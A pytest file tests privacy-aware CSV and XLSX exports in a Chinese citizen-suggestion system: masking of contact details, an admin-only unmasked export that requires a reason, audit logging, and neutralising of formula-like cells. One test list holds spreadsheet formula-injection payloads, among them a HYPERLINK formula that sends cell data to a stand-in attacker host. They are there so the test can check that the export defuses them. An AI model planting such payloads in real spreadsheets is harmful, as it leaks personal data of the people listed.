"""Exports: CSV (BOM, Chinese header) and XLSX of a queue filter, masked by default, unmasked only for admins with
a reason; the audit entry says what was delivered; cells that start like a formula are neutralised."""

import csv
import io

import openpyxl
import pytest
import sqlalchemy as sa

from suggestions.extensions import db
from suggestions.models import AuditEntry
from suggestions.workflow import Status
from tests import factories

HEADER = [
    "追踪码",
    "受理时间",
    "渠道",
    "状态",
    "时限",
    "征集年度",
    "领域",
    "类别",
    "承办部门",
    "所在区",
    "标题",
    "内容",
    "联系人",
    "联系电话",
]


def csv_rows(response):
    data = response.get_data()
    assert data.startswith("\ufeff".encode()), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_rows(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
    # A row ends at its last filled cell; pad it to the header's width.
    rows = workbook.active.iter_rows(values_only=True)
    return [(["" if value is None else value for value in row] + [""] * len(HEADER))[: len(HEADER)] for row in rows]


def table(response, fmt):
    return csv_rows(response) if fmt == "csv" else xlsx_rows(response)


def audit_entries(action):
    """The closing audit entries of ``action`` (complete or failed), each after its start entry."""
    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)).all()
    started = {e.details["export_id"]: e for e in entries if e.details["outcome"] == "started"}
    closing = [e for e in entries if e.details["outcome"] != "started"]
    for entry in closing:
        assert started[entry.details["export_id"]].id < entry.id
    return closing


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_masked_export_for_dispatchers(client, auth, staff, housing_item, fmt):
    housing_item(Status.SIGNED, contact_name="王小明")
    auth.login(staff["dispatcher"])
    response = client.get(f"/queue/export.{fmt}")
    assert response.status_code == 200
    assert response.mimetype == (
        "text/csv" if fmt == "csv" else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"].endswith(f".{fmt}")
    rows = table(response, fmt)
    assert rows[0] == HEADER
    assert rows[1][2:4] == ["网站", "已签收"] and rows[1][8] == "市住房和城乡建设委员会"
    assert rows[1][-2:] == ["王**", "138****5678"]
    assert b"13812345678" not in response.get_data() and "王小明" not in str(rows)
    [entry] = audit_entries("export")
    assert entry.actor_id == staff["dispatcher"].id
    assert entry.details["rows"] == 1 and entry.details["format"] == fmt and entry.details["outcome"] == "complete"


def test_confidential_contacts_are_hidden_even_in_masked_exports(client, auth, staff, housing_item):
    item = housing_item(Status.SIGNED, contact_name="李先生")
    item.confidential = True
    db.session.commit()
    auth.login(staff["officer"])
    assert csv_rows(client.get("/queue/export.csv"))[1][-2:] == ["保密", "保密"]
    assert xlsx_rows(client.get("/queue/export.xlsx"))[1][-2:] == ["保密", "保密"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_unmasked_export_needs_admin_and_a_reason(client, auth, staff, housing_item, fmt):
    housing_item(Status.SIGNED, contact_name="王小明")
    auth.login(staff["admin"])
    refused = client.post(f"/queue/export-unmasked.{fmt}", data={"export-reason": ""})
    assert refused.status_code == 303 and not audit_entries("export_unmasked")
    response = client.post(f"/queue/export-unmasked.{fmt}", data={"export-reason": "纪检部门调阅，文号2026-18"})
    assert table(response, fmt)[1][-2:] == ["王小明", "13812345678"]
    [entry] = audit_entries("export_unmasked")
    assert entry.reason == "纪检部门调阅，文号2026-18"
    assert (entry.details["rows"], entry.details["format"], entry.details["outcome"]) == (1, fmt, "complete")
    audit_page = client.get("/admin/audit").get_data(as_text=True)
    assert "导出（含完整个人信息）" in audit_page and "纪检部门调阅" in audit_page and "已完整送出" in audit_page


@pytest.mark.parametrize("role", ["operator", "dispatcher", "officer"])
def test_only_admins_export_unmasked(client, auth, staff, housing_item, role):
    housing_item(Status.SIGNED)
    auth.login(staff[role])
    assert client.post("/queue/export-unmasked.xlsx", data={"export-reason": "统计分析"}).status_code == 403
    assert not audit_entries("export_unmasked")


def test_officers_export_only_their_department(client, auth, staff, housing_item, app, seeded):
    housing_item(Status.SIGNED)
    factories.submit(app.extensions["phone_vault"], category=factories.category_coded("交通运输"))
    auth.login(staff["officer"])
    assert len(csv_rows(client.get("/queue/export.csv"))) == 2
    assert len(xlsx_rows(client.get("/queue/export.xlsx"))) == 2


def test_export_follows_the_queue_filter(client, auth, staff, housing_item, app):
    housing_item(Status.SIGNED, title="老楼加装电梯")
    factories.submit(app.extensions["phone_vault"], category=factories.category_coded("交通运输"), title="增加公交班次")
    auth.login(staff["dispatcher"])
    rows = xlsx_rows(client.get("/queue/export.xlsx?q=电梯"))
    assert [row[10] for row in rows[1:]] == ["老楼加装电梯"]
    [entry] = audit_entries("export")
    assert entry.details["filters"] == {"q": "电梯"} and entry.details["rows"] == 1


FORMULAS = ['=HYPERLINK("http://evil.example/?"&N2,"点击")', "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cells_that_start_like_a_formula_are_neutralised(client, auth, staff, housing_item, app, fmt):
    vault = app.extensions["phone_vault"]
    for text in FORMULAS:
        factories.submit(
            vault, category=factories.category_coded("城乡建设"), body=text + " 建议增设公交站点", contact_name="=1+1"
        )
    auth.login(staff["admin"])
    response = client.post(f"/queue/export-unmasked.{fmt}", data={"export-reason": "检查导出安全"})
    rows = table(response, fmt)[1:]
    # The service strips leading tabs and line breaks; what remains starts with the formula.
    assert sorted(row[11] for row in rows) == sorted(f"'{text.strip()} 建议增设公交站点" for text in FORMULAS)
    assert all(row[12] == "'=1+1" for row in rows)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
        assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value)


def test_a_broken_off_download_is_audited_as_failed(client, auth, staff, app):
    vault = app.extensions["phone_vault"]
    for _ in range(30):  # 30 long texts: several 64 KB chunks
        factories.submit(vault, category=factories.category_coded("城乡建设"), body="建议增设公交站点。" * 500)
    auth.login(staff["dispatcher"])
    response = client.get("/queue/export.csv", buffered=False)
    next(iter(response.response))
    response.close()
    [entry] = audit_entries("export")
    assert entry.details["outcome"] == "failed" and entry.details["error"] == "下载中断"
    assert 0 < entry.details["rows"] < 30


def test_reveals_are_listed_for_admins(client, auth, staff, housing_item):
    item = housing_item()
    auth.login(staff["operator"])
    client.post(
        f"/suggestions/{item.id}/reveal", data={"reveal-purpose": "callback", "reveal-reason": "回访前核对号码"}
    )
    auth.logout()
    auth.login(staff["admin"])
    page = client.get("/admin/audit").get_data(as_text=True)
    assert "回访市民：回访前核对号码" in page and "查看完整联系电话" in page


def test_confidential_item_page_for_officers(client, auth, staff, housing_item):
    item = housing_item(contact_name="李先生")
    item.confidential = True
    db.session.commit()
    auth.login(staff["officer"])
    html = client.get(f"/suggestions/{item.id}").get_data(as_text=True)
    assert "保密（由12345热线回访）" in html
    assert "李先生" not in html and "138****5678" not in html and 'id="panel-reveal"' not in html
    assert client.post(f"/suggestions/{item.id}/reveal", data={"reveal-purpose": "contact"}).status_code == 403


def test_an_export_cut_off_before_its_closing_entry_shows_as_unfinished(client, auth, staff):
    from suggestions.privacy.disclosure import record_audit

    record_audit(
        staff["admin"], "export_unmasked", reason="核对", details={"export_id": "x1", "outcome": "started", "rows": 0}
    )
    record_audit(staff["admin"], "export", details={"export_id": "x2", "outcome": "started", "rows": 0})
    record_audit(
        staff["admin"], "export", details={"export_id": "x2", "outcome": "complete", "rows": 5, "format": "csv"}
    )
    db.session.commit()
    auth.login(staff["admin"])
    page = client.get("/admin/audit").get_data(as_text=True)
    assert page.count("未完成（下载中断或服务重启") == 1 and page.count("已完整送出") == 1
